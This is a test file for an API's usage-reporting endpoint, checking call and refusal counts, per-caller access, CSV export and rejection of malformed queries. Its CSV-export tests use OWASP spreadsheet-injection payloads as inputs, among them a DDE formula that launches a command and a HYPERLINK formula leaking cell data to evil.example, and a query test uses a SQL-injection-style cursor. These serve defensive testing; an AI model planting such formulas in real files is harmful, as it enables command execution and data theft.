import { sql } from "drizzle-orm";
import { beforeEach, expect, it } from "vitest";
import { Usage } from "@/lib/contracts/usage";
import { usageDays, usageHours, usageInbox } from "@/lib/db/schema-usage";
import { flushRefusals } from "@/lib/dispatch/flush-refusals";
import { createTestApp, errorOf } from "@/lib/testing/test-app";

const app = await createTestApp();
const host = "127.0.0.1:8000";
const operator = await app.createKey({ name: "operator", rights: ["jobs_of_others"] });
const narrow = await app.createKey({ name: "narrow", intents: ["memory.*"] });

beforeEach(async () => {
  await flushRefusals(app.ctx);
  for (const table of [usageHours, usageDays, usageInbox]) await app.ctx.db.delete(table);
});

const usage = async (query = "bucket=all", key = operator) =>
  Usage.parse(await (await app.send({ path: `/usage?${query}`, key })).json());
const call = (body: unknown, key: string | undefined = narrow) => app.send({ path: "/orchestrate", body, key });

/** Refused calls, as `who intent mode code: how many`. */
async function refused() {
  const { rows } = await usage("bucket=all&group=caller,intent,code&outcome=refused");
  return rows.map(({ caller, intent, code, refused: n }) => `${caller?.name} ${intent} ${code}: ${n}`).toSorted();
}

it("tells who called what, how often, how slowly and at what cost", async () => {
  await call({ intent: "memory.write", inputs: { text: "counted" } });
  await call({ intent: "memory.search", inputs: { query: "counted" } });
  await call({ intent: "memory.search", inputs: { query: "counted" } });
  const { rows } = await usage("bucket=all&group=intent,caller,outcome");
  expect(rows.map(({ intent, caller, calls }) => [intent, caller?.name, calls])).toEqual([
    ["memory.search", "narrow", 2],
    ["memory.write", "narrow", 1],
  ]);
  expect(rows[0]).toMatchObject({ cost_micros: 0, failures: 0, refused: 0, p95_ms: expect.any(Number) });
});

it("counts who was refused and why, by whichever way they came", async () => {
  await call({ intent: "ssh.exec", inputs: { command: "id", host: "web1" } });
  await call({ intent: "memory.write", inputs: {} });
  await call({ intent: "memory.write", inputs: {}, misspelt: 1 });
  await call("{");
  for (let n = 0; n < 20; n++) await call({ intent: `made.up.${n}`, inputs: {} });
  await call({ intent: "memory.write", inputs: { text: "x" } }, "ork_no_such_key_at_all");
  await app.send({ path: "/intents/memory.write", key: narrow, body: {} });
  await app.send({
    path: "/mcp",
    body: { jsonrpc: "2.0", id: 1, method: "ping" },
    key: "ork_unknown",
    headers: { host },
  });
  await app.send({ path: "/jobs/job_x", key: narrow });
  expect(await refused()).toEqual([
    "(unknown) (unknown) unauthorized: 2",
    "narrow (unknown) intent_not_found: 20",
    "narrow (unknown) invalid_json: 1",
    "narrow (unknown) invalid_request: 1",
    "narrow memory.write invalid_inputs: 2",
    "narrow ssh.exec forbidden: 1",
  ]);
});

it("names the holder of a key that is paused", async () => {
  const admin = await app.createKey({ name: "admin", rights: ["admin"] });
  const body = { name: "sleeper" };
  const { key, key_id } = await (await app.send({ path: "/keys", key: admin, body })).json();
  await app.send({ method: "PATCH", path: `/keys/${key_id}`, key: admin, body: { paused: true } });
  expect((await call({ intent: "memory.search", inputs: { query: "x" } }, key)).status).toBe(403);
  expect(await refused()).toEqual(["sleeper (unknown) forbidden: 1"]);
});

it("counts a refused tool call over MCP once", async () => {
  for (const name of ["memory_write", "no_such_tool"]) {
    const body = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name, arguments: {} } };
    const headers = { accept: "application/json, text/event-stream", host };
    await (await app.send({ path: "/mcp", key: narrow, headers, body })).text();
  }
  expect(await refused()).toEqual(["narrow (unknown) invalid_request: 1", "narrow memory.write invalid_inputs: 1"]);
});

it("shows a caller its own usage alone, and none of those whom nobody knows", async () => {
  await call({ intent: "memory.search", inputs: { query: "mine" } }, operator);
  await call({ intent: "memory.search", inputs: { query: "mine" } });
  await call({ intent: "memory.search", inputs: {} }, "ork_unknown");
  const { rows } = await usage("bucket=all&group=caller", narrow);
  expect(rows.map(({ caller, calls }) => [caller?.name, calls])).toEqual([["narrow", 1]]);
});

// Source: OWASP, CSV Injection; each would be a formula, or a second cell, to some spreadsheet.
const payloads = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example/?leak="&A1&A2,"see")',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff201+1",
];

it.each(payloads)("lets no spreadsheet run a caller's name such as %j", async (name) => {
  await app.ctx.db.execute(sql`
    insert into usage_inbox (at, intent, mode, caller_id, caller_kind, caller_name, namespace, outcome, code, cost_micros)
    values (${app.ctx.clock.now().toISOString()}::timestamptz, 'a.b', 'agent', 'key_x', 'key', ${name}, 'default', 'succeeded', '', 0)`);
  const response = await app.send({ path: "/usage?bucket=all&group=caller&format=csv", key: operator });
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  const [head, ...rest] = (await response.text()).split("key_x,");
  expect(head).toMatch(
    /^bucket,caller_id,caller_name,caller_kind,calls,failures,refused,cost_micros,p50_ms,p95_ms,p99_ms\r\n/,
  );
  const cell = rest.join("");
  expect(cell.replace(/^"/, "")).toMatch(/^'/);
  expect(cell.endsWith(",key,1,0,0,0,,,\r\n")).toBe(true);
  const quoted = /^"((?:[^"]|"")*)",key/.exec(cell)?.[1]?.replaceAll('""', '"') ?? cell.split(",key")[0];
  expect(quoted).toBe(`'${name}`);
});

it("answers with CSV to whoever asks for that in Accept, page after page", async () => {
  // As it is counted: in hours and in days, since a day that ends within the range is read as one.
  for (const span of ["hour", "day"]) {
    await app.ctx.db.execute(sql`
      insert into ${sql.raw(`usage_${span}s`)} (${sql.raw(span)}, intent, mode, caller_id, caller_kind, caller_name, namespace,
        outcome, code, cost_micros, calls, time_buckets, time_counts)
      select date_trunc(${span}, ${app.ctx.clock.now().toISOString()}::timestamptz, 'UTC'), 'a.' || n, 'agent', 'k', 'key',
        'k', 'd', 'succeeded', '', 1, 2, '{}', '{}' from generate_series(1, 2500) n`);
  }
  const response = await app.send({
    path: "/usage?bucket=all&group=intent",
    key: operator,
    headers: { accept: "text/csv, application/json;q=0.5" },
  });
  const lines = (await response.text()).split("\r\n");
  expect(lines).toHaveLength(2_502);
  expect(new Set(lines).size).toBe(2_502);
  const plain = await app.send({ path: "/usage", key: operator, headers: { accept: "text/csv;q=0, */*" } });
  expect(plain.headers.get("content-type")).toContain("application/json");
});

it.each([
  "bucket=week",
  "group=intent,intent",
  "group=intent,mode,caller,code",
  "group=password",
  "from=2020-01-01T00:00:00Z",
  "from=32d&bucket=hour",
  "from=tomorrow",
  "from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z",
  "cursor=e30",
  "cursor=%27%3B--",
  "outcome=fine",
  "code=DROP",
  "limit=0",
  "limit=1001",
  "format=xml",
  "x=1",
  "from=0000-01-01T00:00:00Z&to=0000-06-01T00:00:00Z",
  "to=9999-12-31T23:30:00-12:00",
  `cursor=${Buffer.from('["0000-01-01T00:00:00.000Z"]').toString("base64url")}`,
])("answers 400 to /usage?%s", async (query) => {
  const response = await app.send({ path: `/usage?${query}`, key: operator });
  expect(response.status).toBe(400);
  expect((await errorOf(response)).code).toBe("invalid_request");
});

it("answers 401 without a key and 405 to a POST", async () => {
  expect((await app.send({ path: "/usage" })).status).toBe(401);
  expect((await app.send({ method: "POST", path: "/usage", key: operator })).status).toBe(405);
});
